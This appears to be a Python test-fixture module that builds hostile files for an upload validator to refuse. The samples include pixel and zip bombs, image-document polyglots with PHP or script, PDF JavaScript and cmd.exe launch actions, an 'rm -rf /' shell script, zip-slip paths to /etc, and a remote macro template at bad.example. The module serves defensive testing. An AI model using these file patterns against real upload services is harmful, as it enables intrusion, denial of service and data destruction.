"""Files that must not be kept, each made here: what it is called, what it holds, and what the person is told."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZIP_STORED, ZipFile

from PIL import Image

KINDS = "Chỉ nhận ảnh"
HEIC = "HEIC"
OLD = "định dạng cũ"
DAMAGED = "Không đọc được"
MACROS = "macro"
PDF_CODE = "PDF có mã lệnh"
TWO_FACES = "hai định dạng"
UNPACKED = "giải nén"
WRONG_NAME = "kết thúc bằng"
PIXELS = "triệu điểm ảnh"
EMPTY = "Tệp rỗng"


@dataclass(frozen=True)
class Hostile:
    """A file that is refused with a sentence that holds ``says``."""

    name: str
    content: bytes
    says: str


# --- Sound files, to be spoilt -----------------------------------------------------------------------


def picture(
    kind: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: object
) -> bytes:
    out = BytesIO()
    image = Image.radial_gradient("L").resize(size).convert(mode)
    image.save(out, kind, **options)
    return out.getvalue()


def pdf(objects: bytes = b"", head: bytes = b"%PDF-1.7\n") -> bytes:
    return (
        head
        + b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
        + objects
        + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 1 0 R/Size 3>>\nstartxref\n99\n%%EOF\n"
    )


def object_stream(content: bytes) -> bytes:
    packed = zlib.compress(content)
    return (
        b"7 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
        + packed
        + b"\nendstream\nendobj\n"
    )


WORD = "wordprocessingml.document.main+xml"
EXCEL = "spreadsheetml.sheet.main+xml"


def types(main: str) -> bytes:
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.{main}"/>'
        "</Types>"
    ).encode()


def office(main: str = WORD, packing: int = ZIP_DEFLATED, **parts: bytes) -> bytes:
    """A document of Word, or of Excel; ``parts`` are more members, or other content for one."""
    members = {"[Content_Types].xml": types(main), "word/document.xml": b"<w:document/>"} | parts
    out = BytesIO()
    with ZipFile(out, "w", packing) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


# --- Pictures ----------------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(width: int, height: int) -> bytes:
    """Few bytes that unpack to width × height pixels."""
    row = zlib.compressobj(9)
    line = bytes(1 + min(width, 30_000))
    packed = b"".join(row.compress(line) for _ in range(min(height, 400))) + row.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", packed)
        + png_chunk(b"IEND", b"")
    )


def jpeg_with_size(width: int, height: int) -> bytes:
    """A JPEG whose header says other sizes than its data have."""
    data = bytearray(picture())
    place = data.index(b"\xff\xc0") + 5
    data[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_with_comment(comment: bytes) -> bytes:
    data = picture()
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def heif(brand: bytes) -> bytes:
    return struct.pack(">I", 24) + b"ftyp" + brand + b"\0\0\0\0" + b"mif1" + brand + bytes(200)


def pictures() -> Iterator[tuple[str, Hostile]]:
    jpeg, png, webp = picture(), picture("PNG"), picture("WEBP")
    yield "png bomb of 900 megapixels", Hostile("anh.png", huge_png(30000, 30000), PIXELS)
    yield "png of 2 billion by 1", Hostile("anh.png", huge_png(2_000_000_000, 1), PIXELS)
    yield "png of 2 billion by 2 billion", Hostile("a.png", huge_png(2_147_483_647, 2_147_483_647), PIXELS)
    yield "png without a pixel", Hostile("anh.png", huge_png(0, 0), DAMAGED)
    yield "jpeg whose header says 65535 by 65535", Hostile("anh.jpg", jpeg_with_size(65535, 65535), PIXELS)
    yield "jpeg of no height", Hostile("anh.jpg", jpeg_with_size(64, 0), DAMAGED)
    yield "jpeg cut in the middle", Hostile("anh.jpg", picture(size=(400, 300))[:2500], DAMAGED)
    yield "jpeg of three bytes", Hostile("anh.jpg", jpeg[:3], DAMAGED)
    yield "jpeg header and noise", Hostile("anh.jpg", jpeg[:20] + bytes(range(256)) * 8, DAMAGED)
    yield "png cut in the middle", Hostile("anh.png", picture("PNG", (400, 300))[:900], DAMAGED)
    yield "png with a wrong check sum", Hostile("anh.png", png.replace(b"IHDR\0", b"IHDR\1", 1), DAMAGED)
    yield "png signature only", Hostile("anh.png", png[:8], DAMAGED)
    yield "png whose text unpacks to 100 MB", Hostile("anh.png", _text_bomb(), DAMAGED)
    yield "webp cut in the middle", Hostile("anh.webp", webp[: len(webp) // 2], DAMAGED)
    yield "webp header only", Hostile("anh.webp", b"RIFF\x10\0\0\0WEBPVP8 ", DAMAGED)
    yield "webp of noise", Hostile("anh.webp", b"RIFF\x10\1\0\0WEBPVP8L" + bytes(range(256)), DAMAGED)
    yield "heic of an iPhone", Hostile("IMG_1.HEIC", heif(b"heic"), HEIC)
    yield "heic called jpg", Hostile("IMG_1.jpg", heif(b"heix"), HEIC)
    yield "heif of another brand", Hostile("anh.heif", heif(b"mif1"), HEIC)
    yield "avif", Hostile("anh.avif", heif(b"avif"), HEIC)
    yield "gif", Hostile("anh.gif", picture("GIF"), KINDS)
    yield "bmp called jpg", Hostile("anh.jpg", picture("BMP"), KINDS)
    yield "tiff", Hostile("anh.tif", picture("TIFF"), KINDS)
    yield "icon", Hostile("anh.ico", picture("ICO"), KINDS)
    yield "postscript", Hostile("anh.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", KINDS)
    yield "jpeg called pdf", Hostile("bao-cao.pdf", jpeg, WRONG_NAME)
    yield "jpeg called docx", Hostile("bao-cao.docx", jpeg, WRONG_NAME)
    yield "png called html", Hostile("trang.html", png, WRONG_NAME)
    yield "jpeg called exe behind jpg", Hostile("anh.jpg.exe", jpeg, WRONG_NAME)
    yield "jpeg that is a zip, too", Hostile("anh.jpg", jpeg + office(), TWO_FACES)
    yield (
        "png that is a program of Java, too",
        Hostile("anh.png", png + office(**{"A.class": b"x"}), TWO_FACES),
    )
    yield "jpeg that is a pdf, too", Hostile("anh.jpg", jpeg_with_comment(pdf()[:800]), TWO_FACES)
    yield (
        "jpeg with a script in its comment",
        Hostile("a.jpg", jpeg_with_comment(b"<script>x</script>"), TWO_FACES),
    )
    yield "jpeg that is a page, too", Hostile("a.jpg", jpeg_with_comment(b"*/<html><body>"), TWO_FACES)
    yield "jpeg with php in its comment", Hostile("a.jpg", jpeg_with_comment(b"<?php system(1);"), TWO_FACES)


def _text_bomb() -> bytes:
    """Pillow stops at a megabyte of text."""
    text = b"Comment\0\0" + zlib.compress(bytes(100_000_000), 9)
    data = picture("PNG")
    place = data.index(b"IDAT") - 4
    return data[:place] + png_chunk(b"zTXt", text) + data[place:]


# --- Pages, programs and other things ----------------------------------------------------------------

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(1)</script></html>"


def others() -> Iterator[tuple[str, Hostile]]:
    yield "nothing", Hostile("anh.jpg", b"", EMPTY)
    yield "one byte", Hostile("anh.jpg", b"\xff", KINDS)
    yield "svg with a script", Hostile("anh.svg", SVG, KINDS)
    yield "svg called png", Hostile("anh.png", SVG, KINDS)
    yield "svg with an xml head called jpg", Hostile("anh.jpg", b'<?xml version="1.0"?>\n' + SVG, KINDS)
    yield "html", Hostile("trang.html", HTML, KINDS)
    yield "html called jpg", Hostile("anh.jpg", HTML, KINDS)
    yield "html called pdf", Hostile("bao-cao.pdf", HTML, KINDS)
    yield "html behind blanks called docx", Hostile("bao-cao.docx", b"\n" * 600 + HTML, KINDS)
    yield "html with a mark of order", Hostile("anh.jpg", b"\xef\xbb\xbf" + HTML, KINDS)
    yield "a script of a shell", Hostile("chay.sh", b"#!/bin/sh\nrm -rf /\n", KINDS)
    yield "a program of Windows called pdf", Hostile("bao-cao.pdf", b"MZ" + bytes(500), KINDS)
    yield "a program of Linux", Hostile("anh.jpg", b"\x7fELF" + bytes(500), KINDS)
    yield "a film", Hostile("phim.mp4", struct.pack(">I", 24) + b"ftypisom" + bytes(200), KINDS)
    yield "rar", Hostile("tep.rar", b"Rar!\x1a\x07\x01\0" + bytes(100), KINDS)
    yield "gzip called docx", Hostile("bao-cao.docx", b"\x1f\x8b\x08" + bytes(100), KINDS)
    yield "rtf called doc", Hostile("bao-cao.doc", rb"{\rtf1 {\object\objocx}}", KINDS)
    yield "old word", Hostile("bao-cao.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900), OLD)
    yield "locked word", Hostile("bao-cao.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900), OLD)


# --- PDF ---------------------------------------------------------------------------------------------


def pdfs() -> Iterator[tuple[str, Hostile]]:
    yield (
        "pdf with JavaScript",
        Hostile("a.pdf", pdf(b"3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n"), PDF_CODE),
    )
    yield (
        "pdf with hidden JavaScript",
        Hostile("a.pdf", pdf(b"3 0 obj\n<</S/J#61vaScript>>\nendobj\n"), PDF_CODE),
    )
    yield (
        "pdf with packed JavaScript",
        Hostile("a.pdf", pdf(object_stream(b"3 0 <</S/JavaScript>>")), PDF_CODE),
    )
    yield (
        "pdf that starts a program",
        Hostile("a.pdf", pdf(b"3 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"), PDF_CODE),
    )
    yield (
        "pdf with a file inside",
        Hostile("a.pdf", pdf(b"3 0 obj\n<</Type/EmbeddedFile>>\nendobj\n"), PDF_CODE),
    )
    yield (
        "pdf whose objects unpack to 50 MB",
        Hostile("a.pdf", pdf(object_stream(bytes(50_000_000))), UNPACKED),
    )
    yield "pdf cut in the middle", Hostile("a.pdf", pdf()[:60], DAMAGED)
    yield "pdf of a head only", Hostile("a.pdf", b"%PDF-1.7\n", DAMAGED)
    yield "pdf that is a zip, too", Hostile("a.pdf", pdf() + office(), TWO_FACES)
    yield (
        "pdf that is a page, too",
        Hostile("a.pdf", pdf(head=b"%PDF-1.7\n<script>alert(1)</script>\n"), TWO_FACES),
    )
    yield "pdf called jpg", Hostile("anh.jpg", pdf(), WRONG_NAME)
    yield "pdf called exe", Hostile("cai-dat.exe", pdf(), WRONG_NAME)
    yield "pdf behind other bytes", Hostile("a.pdf", b"GIF89a" + pdf(), KINDS)


# --- DOCX, XLSX --------------------------------------------------------------------------------------


def patched(data: bytes, change: Callable[[bytearray], None]) -> bytes:
    spoilt = bytearray(data)
    change(spoilt)
    return bytes(spoilt)


def _in_directory(offset: int, value: bytes) -> Callable[[bytearray], None]:
    """Writes into the directory's line of the last member."""

    def change(data: bytearray) -> None:
        place = data.rindex(b"PK\x01\x02") + offset
        data[place : place + len(value)] = value

    return change


def _two_of_one_name() -> bytes:
    data = office(**{"word/a.xml": b"1", "word/b.xml": b"2"})
    return data.replace(b"word/b.xml", b"word/a.xml")


def documents() -> Iterator[tuple[str, Hostile]]:
    bomb = bytes(130 * 2**20)
    yield "docx that unpacks to 130 MB", Hostile("a.docx", office(**{"word/media/a.xml": bomb}), UNPACKED)
    yield "docx of 30 MB of nothing", Hostile("a.docx", office(**{"word/a.xml": bytes(30 * 2**20)}), UNPACKED)
    yield (
        "docx of 5000 members",
        Hostile("a.docx", office(**{f"word/{n}.xml": b"" for n in range(5000)}), UNPACKED),
    )
    yield "docx with macros", Hostile("a.docx", office(**{"word/vbaProject.bin": b"x"}), MACROS)
    yield "docx with macros in capitals", Hostile("a.docx", office(**{"word/VBAPROJECT.BIN": b"x"}), MACROS)
    yield "docm called docx", Hostile("a.docx", office("ms-word.document.macroEnabled.main+xml"), MACROS)
    yield "xlsm called xlsx", Hostile("a.xlsx", office("ms-excel.sheet.macroEnabled.main+xml"), MACROS)
    yield "xlsx with ActiveX", Hostile("a.xlsx", office(EXCEL, **{"xl/activeX/activeX1.xml": b"x"}), MACROS)
    remote = (
        b'<Relationship Type="x/attachedTemplate" Target="https://bad.example/a.dotm" TargetMode="External"/>'
    )
    yield (
        "docx with a template elsewhere",
        Hostile("a.docx", office(**{"word/_rels/settings.xml.rels": remote}), MACROS),
    )
    yield "xlsx called docx", Hostile("a.docx", office(EXCEL), WRONG_NAME)
    yield "docx called pdf", Hostile("a.pdf", office(), WRONG_NAME)
    yield "docx called docm", Hostile("a.docm", office(), WRONG_NAME)
    yield "plain zip", Hostile("a.zip", _zip({"a.txt": b"x"}), DAMAGED)
    yield "plain zip called docx", Hostile("a.docx", _zip({"a.txt": b"x"}), DAMAGED)
    yield "zip in a zip called docx", Hostile("a.docx", _zip({"b.zip": office()}), DAMAGED)
    yield "presentation", Hostile("a.pptx", office("presentationml.presentation.main+xml"), KINDS)
    yield "word and excel at once", Hostile("a.docx", office(f"{WORD} {EXCEL}"), KINDS)
    yield "docx cut in the middle", Hostile("a.docx", office()[:150], DAMAGED)
    yield "docx without its last byte", Hostile("a.docx", office()[:-1], DAMAGED)
    yield "docx with something behind", Hostile("a.docx", office() + b"<script>", DAMAGED)
    yield "docx with something between", Hostile("a.docx", _shifted(), DAMAGED)
    yield (
        "docx that leads out of its folder",
        Hostile("a.docx", office(**{"../../etc/cron.d/a": b"x"}), DAMAGED),
    )
    yield "docx that leads to the root", Hostile("a.docx", office(**{"/etc/passwd": b"x"}), DAMAGED)
    yield "docx that leads to a disk", Hostile("a.docx", office(**{"C:/a.exe": b"x"}), DAMAGED)
    yield "docx with two members of one name", Hostile("a.docx", _two_of_one_name(), DAMAGED)
    yield "docx with a password", Hostile("a.docx", patched(office(), _in_directory(8, b"\1\0")), DAMAGED)
    yield (
        "docx that lies about its length",
        Hostile("a.docx", patched(office(), _in_directory(24, b"\1\0\0\0")), DAMAGED),
    )
    yield (
        "docx with a wrong check sum",
        Hostile("a.docx", patched(office(), _in_directory(16, b"\0\0\0\0")), DAMAGED),
    )
    yield "docx packed with bzip2", Hostile("a.docx", office(packing=ZIP_BZIP2), DAMAGED)
    yield "docx packed with lzma", Hostile("a.docx", office(packing=ZIP_LZMA), DAMAGED)
    yield "docx without a list of types", Hostile("a.docx", _zip({"word/document.xml": b"<w/>"}), DAMAGED)
    yield "docx that is a pdf, too", Hostile("a.docx", _zip_with_first(pdf()), TWO_FACES)
    yield "a zip of nothing", Hostile("a.docx", b"PK\x05\x06" + bytes(18), KINDS)
    yield "the head of a zip only", Hostile("a.docx", b"PK\x03\x04" + bytes(60), DAMAGED)


def _zip(members: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def _zip_with_first(content: bytes) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_STORED) as archive:
        archive.writestr("a.pdf", content)
        archive.writestr("[Content_Types].xml", types(WORD))
    return out.getvalue()


def _shifted() -> bytes:
    """Bytes between the members and the directory, as archives that are something else, too, have them."""
    data = office()
    place = data.index(b"PK\x01\x02")
    return data[:place] + b"<html>" * 20 + data[place:]


def all_of_them() -> dict[str, Hostile]:
    found: dict[str, Hostile] = {}
    for source in (pictures, others, pdfs, documents):
        for name, hostile in source():
            assert name not in found, name
            found[name] = hostile
    return found
